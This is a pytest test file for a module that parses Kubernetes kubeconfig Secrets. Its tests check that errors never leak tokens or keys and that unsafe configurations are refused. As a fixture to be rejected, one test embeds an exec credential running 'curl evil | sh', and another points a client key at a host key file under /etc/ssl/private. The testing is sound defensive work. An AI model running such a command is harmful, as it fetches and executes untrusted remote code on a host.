# -*- coding: utf-8 -*-

import base64
import os

import pytest

yaml = pytest.importorskip("yaml")
pytest.importorskip("kubernetes")

from kubernetes.client.exceptions import ApiException  # noqa: E402  pylint: disable=wrong-import-position

from ansible_collections.flightcontrol.openstack.plugins.module_utils.kubernetes.client import (  # noqa: E402
    build_configuration,
)
from ansible_collections.flightcontrol.openstack.plugins.module_utils.kubernetes.kubeconfig_secret import (  # noqa: E402
    client_settings,
    in_memory_file,
    KubeconfigSecretError,
    parse_kubeconfig_secret,
    secret_read_error,
    SecretRef,
    without_userinfo,
)

TOKEN = "s3cr3t-token-0123456789abcdef"
KEY_PEM = b"-----BEGIN PRIVATE KEY-----\nc2VjcmV0IGtleQ==\n-----END PRIVATE KEY-----\n"
CA_PEM = b"-----BEGIN CERTIFICATE-----\nY2E=\n-----END CERTIFICATE-----\n"
REF = SecretRef("prod-kubeconfig", "clusters")


def b64(data):
    return base64.b64encode(data if isinstance(data, bytes) else data.encode()).decode()


def kubeconfig(**changes):
    config = {
        "apiVersion": "v1", "kind": "Config", "current-context": "prod-admin@prod",
        "clusters": [{"name": "prod", "cluster": {"server": "https://10.0.0.5:6443",
                                                  "certificate-authority-data": b64(CA_PEM)}}],
        "users": [{"name": "prod-admin", "user": {"token": TOKEN, "client-key-data": b64(KEY_PEM)}}],
        "contexts": [{"name": "prod-admin@prod", "context": {"cluster": "prod", "user": "prod-admin"}}],
    }
    config.update(changes)
    return config


def secret(config=None, key="value", text=None):
    text = yaml.safe_dump(config if config is not None else kubeconfig()) if text is None else text
    return {"kind": "Secret", "metadata": {"name": REF.name, "namespace": REF.namespace},
            "data": {key: b64(text)}}


def refusal(secret_dict):
    with pytest.raises(KubeconfigSecretError) as caught:
        parse_kubeconfig_secret(secret_dict, REF)
    message = str(caught.value)
    for value in (TOKEN, b64(KEY_PEM), "c2VjcmV0IGtleQ", b64(CA_PEM)):
        assert value not in message
    assert "Secret clusters/prod-kubeconfig" in message
    return message


def test_a_cluster_api_kubeconfig_is_read_from_its_key():
    workload = parse_kubeconfig_secret(secret(), REF)
    assert workload.summary == {"server": "https://10.0.0.5:6443", "context": "prod-admin@prod",
                                "cluster": "prod", "user": "prod-admin"}
    assert yaml.safe_load(workload.content) == kubeconfig()
    assert TOKEN in workload.secret_values and b64(KEY_PEM) in workload.secret_values
    assert secret()["data"]["value"] in workload.secret_values  # the Secret's value itself


def test_the_summary_never_carries_credentials():
    config = kubeconfig()
    config["clusters"][0]["cluster"]["server"] = "https://admin:hunter2@10.0.0.5:6443/"
    summary = parse_kubeconfig_secret(secret(config), REF).summary
    assert summary["server"] == "https://10.0.0.5:6443/"
    assert "hunter2" not in repr(summary) and TOKEN not in repr(summary)
    assert without_userinfo("https://10.0.0.5:6443") == "https://10.0.0.5:6443"


def test_a_missing_key_names_the_keys_there_are():
    message = refusal(secret(key="kubeconfig"))
    assert "has no key 'value'" in message and "its keys: kubeconfig" in message


def test_a_value_that_is_not_base64():
    broken = secret()
    broken["data"]["value"] = "apiVersion: v1\nkind: Config\ntoken: %s" % TOKEN
    assert "is not base64" in refusal(broken)


@pytest.mark.parametrize("text, words", [
    ("", "is empty"),
    ("clusters: [\n  token: %s" % TOKEN, "not valid YAML (line"),
    ("- just\n- a list %s\n" % TOKEN, "YAML list, not a mapping"),
    ("apiVersion: v1\nkind: Config\n", "it has no clusters"),
])
def test_text_that_is_no_kubeconfig(text, words):
    assert words in refusal(secret(text=text))


def test_not_utf8():
    broken = secret()
    broken["data"]["value"] = base64.b64encode(b"\xff\xfe" + TOKEN.encode()).decode()
    assert "not UTF-8" in refusal(broken)


def test_current_context_must_name_a_context_its_cluster_and_user():
    assert "has no current-context" in refusal(secret(kubeconfig(**{"current-context": ""})))
    assert "'nowhere', which is not among its contexts (prod-admin@prod)" in refusal(
        secret(kubeconfig(**{"current-context": "nowhere"})))
    config = kubeconfig()
    config["contexts"][0]["context"]["cluster"] = "other"
    assert "names cluster 'other', which is not among its clusters (prod)" in refusal(secret(config))
    config = kubeconfig()
    config["contexts"][0]["context"]["user"] = "nobody"
    assert "names user 'nobody', which is not among its users (prod-admin)" in refusal(secret(config))
    config = kubeconfig()
    del config["clusters"][0]["cluster"]["server"]
    assert "cluster 'prod' has no server URL" in refusal(secret(config))


def test_credentials_that_run_a_program_or_read_a_host_file_are_refused():
    config = kubeconfig()
    config["users"][0]["user"] = {"exec": {"command": "sh", "args": ["-c", "curl evil | sh"]}}
    assert "exec credentials, which would run a program on this host" in refusal(secret(config))
    config = kubeconfig()
    config["users"][0]["user"] = {"client-key": "/etc/ssl/private/key.pem"}
    assert "names a file (client-key)" in refusal(secret(config))
    config = kubeconfig()
    config["clusters"][0]["cluster"]["certificate-authority-data"] = "not*base64"
    assert "cluster 'prod''s certificate-authority-data is not base64" in refusal(secret(config))


def test_read_errors_name_the_secret_and_what_the_credentials_need():
    def error(status):
        return secret_read_error(ApiException(status=status, reason="x"), REF, "https://mgmt:6443")
    assert "does not exist in the cluster at https://mgmt:6443" in str(error(404))
    assert "needs" not in str(error(404))
    assert "need get on secrets in namespace clusters" in str(error(403))
    assert "refused the credentials (HTTP 401)" in str(error(401))
    assert error(500) is None


def test_client_settings_hold_only_the_current_context_with_data_in_memory_files():
    config = kubeconfig()
    config["clusters"].append({"name": "other", "cluster": {"server": "https://other:6443"}})
    made = {}

    def memory_file(label, content):
        made[label] = content
        return "/memory/%s" % label

    settings = client_settings(parse_kubeconfig_secret(secret(config), REF), memory_file)
    used = settings["kubeconfig"]
    assert [c["name"] for c in used["clusters"]] == ["prod"]
    assert used["clusters"][0]["cluster"] == {"server": "https://10.0.0.5:6443",
                                              "certificate-authority": "/memory/certificate-authority"}
    assert used["users"][0]["user"] == {"token": TOKEN, "client-key": "/memory/client-key"}
    assert made == {"certificate-authority": CA_PEM, "client-key": KEY_PEM}


@pytest.mark.skipif(not hasattr(os, "memfd_create"), reason="Linux memfd")
def test_in_memory_files_are_readable_by_path_and_are_no_file_on_disk():
    path = in_memory_file("client-key", KEY_PEM)
    with open(path, "rb") as handle:
        assert handle.read() == KEY_PEM
    assert os.readlink(path).startswith("/memfd:flightcontrol-client-key")


@pytest.mark.skipif(not hasattr(os, "memfd_create"), reason="Linux memfd")
def test_the_kubernetes_client_loads_the_settings_without_temporary_files():
    from kubernetes.config import kube_config
    before = dict(kube_config._temp_files)
    configuration = build_configuration(client_settings(parse_kubeconfig_secret(secret(), REF)))
    assert configuration.host == "https://10.0.0.5:6443"
    assert list(configuration.api_key.values()) == ["Bearer %s" % TOKEN]
    assert configuration.ssl_ca_cert.startswith("/proc/self/fd/")
    assert kube_config._temp_files == before
